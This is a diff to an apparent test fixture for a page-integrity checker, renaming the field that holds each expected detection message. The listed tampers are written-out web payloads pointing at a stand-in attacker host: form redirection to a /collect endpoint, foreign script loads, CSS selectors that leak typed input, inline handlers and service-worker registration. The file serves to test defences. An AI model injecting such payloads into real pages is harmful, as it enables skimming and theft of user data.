@@ -3,7 +3,7 @@ import type { Answer, Tamper } from './tampering-proxy';
 /** An attack on a page, and words of the difference that tells it. */
 export interface NamedTamper extends Tamper {
   name: string;
-  told: RegExp;
+  reported: RegExp;
 }
 
 /** The attacker's site. No name server knows it. */
@@ -39,100 +39,100 @@ const inFirstScript =
 
 /** The first ones are played by day. */
 export const tampers: readonly NamedTamper[] = [
-  { name: 'a changed script', change: inFirstScript(spy), told: /a script was changed/ },
+  { name: 'a changed script', change: inFirstScript(spy), reported: /a script was changed/ },
   {
     name: 'a script in the page that has the nonce',
     change: inPage('</head>', `<script nonce="$nonce">${spy}</script></head>`),
-    told: /unknown script in the page ran: document\.addEventListener/,
+    reported: /unknown script in the page ran: document\.addEventListener/,
   },
   {
     name: 'a form that sends elsewhere',
     change: inPage('<form', `<form action="${foreign}/collect"`),
-    told: /form sends to https:\/\/elsewhere/,
+    reported: /form sends to https:\/\/elsewhere/,
   },
   {
     name: 'a script of another site that has the nonce',
     change: inPage('</head>', `<script nonce="$nonce" src="${foreign}/spy.js"></script></head>`),
-    told: /foreign site was asked: https:\/\/elsewhere\.example\/spy\.js/,
+    reported: /foreign site was asked: https:\/\/elsewhere\.example\/spy\.js/,
   },
   {
     name: 'a script at an address of ours that the build lacks',
     change: inPage('</head>', '<script nonce="$nonce" src="/_next/static/chunks/spy.js"></script></head>'),
     plants: { '/_next/static/chunks/spy.js': spy },
-    told: /a script ran that the build does not contain/,
+    reported: /a script ran that the build does not contain/,
   },
   {
     name: 'a script that replaces one of the page',
     change: inPage(/\/_next\/static\/chunks\/[\w-]+\.js"/, '/_next/static/chunks/gone.js"'),
-    told: /not answered: 404 .*gone\.js/,
+    reported: /not answered: 404 .*gone\.js/,
   },
-  { name: 'no content policy', change: inPolicy(() => undefined), told: /content-security-policy is missing/ },
+  { name: 'no content policy', change: inPolicy(() => undefined), reported: /content-security-policy is missing/ },
   {
     name: 'a content policy that allows calls to another site',
     change: inPolicy((text) => text.replace("connect-src 'self'", `connect-src 'self' ${foreign}`)),
-    told: /policy allows https:\/\/elsewhere\.example in connect-src/,
+    reported: /policy allows https:\/\/elsewhere\.example in connect-src/,
   },
   {
     name: 'a content policy that allows text as code',
     change: inPolicy((text) => text.replace("'strict-dynamic'", "'strict-dynamic' 'unsafe-eval'")),
-    told: /policy allows 'unsafe-eval' in script-src/,
+    reported: /policy allows 'unsafe-eval' in script-src/,
   },
   {
     name: 'a content policy without Trusted Types',
     change: inPolicy((text) => text.replace(/; require-trusted-types-for.*/, '')),
-    told: /policy lacks require-trusted-types-for/,
+    reported: /policy lacks require-trusted-types-for/,
   },
   {
     name: 'no strict transport',
     change: inHeaders(({ 'strict-transport-security': _, ...headers }) => headers),
-    told: /strict-transport-security is missing/,
+    reported: /strict-transport-security is missing/,
   },
   {
     name: 'a frame of another site',
     change: inPage('</body>', `<iframe src="${foreign}/card"></iframe></body>`),
-    told: /a frame shows https:\/\/elsewhere/,
+    reported: /a frame shows https:\/\/elsewhere/,
   },
   {
     name: 'code in an attribute',
     change: inPage('<body', `<body onfocus="${spy.replaceAll('"', '')}"`),
-    told: /code in an attribute: onfocus/,
+    reported: /code in an attribute: onfocus/,
   },
   {
     name: 'a service worker',
     // The policy and Trusted Types refuse one, so the attacker drops the policy too.
     change: (answer) => inFirstScript("navigator.serviceWorker.register('/spy.js')")(inPolicy(() => undefined)(answer)),
     plants: { '/spy.js': "addEventListener('fetch',function(){})" },
-    told: /a worker runs: .*service worker/,
+    reported: /a worker runs: .*service worker/,
   },
   {
     name: 'a style sheet that imports another',
     change: inPage('</head>', `<style nonce="$nonce">@import url(${foreign}/a.css);</style></head>`),
-    told: /style sheet imports/,
+    reported: /style sheet imports/,
   },
   {
     name: 'a style sheet that sends what is typed',
     change: inPage('</head>', `<style nonce="$nonce">[value^="4"]{background:url(${foreign}/4)}</style></head>`),
-    told: /style sheet loads https:\/\/elsewhere\.example\/4/,
+    reported: /style sheet loads https:\/\/elsewhere\.example\/4/,
   },
   {
     name: 'a linked style sheet of another site',
     change: inPage('</head>', `<link rel="stylesheet" href="${foreign}/a.css"></head>`),
-    told: /an element loads https:\/\/elsewhere/,
+    reported: /an element loads https:\/\/elsewhere/,
   },
-  { name: 'a base element', change: inPage('<head>', `<head><base href="${foreign}/">`), told: /base element/ },
+  { name: 'a base element', change: inPage('<head>', `<head><base href="${foreign}/">`), reported: /base element/ },
   {
     name: 'a link that leads elsewhere',
     change: inPage('</body>', `<a href="${foreign}/pay">Pagar</a></body>`),
-    told: /a link leads to https:\/\/elsewhere/,
+    reported: /a link leads to https:\/\/elsewhere/,
   },
   {
     name: 'a page that leads elsewhere',
     change: inPage('</head>', `<meta http-equiv="refresh" content="600;url=${foreign}"></head>`),
-    told: /meta element leads the page elsewhere/,
+    reported: /meta element leads the page elsewhere/,
   },
   {
     name: 'a map of modules',
     change: inPage('</head>', '<script nonce="$nonce" type="importmap">{"imports":{}}</script></head>'),
-    told: /script element of an unknown type: importmap/,
+    reported: /script element of an unknown type: importmap/,
   },
 ];
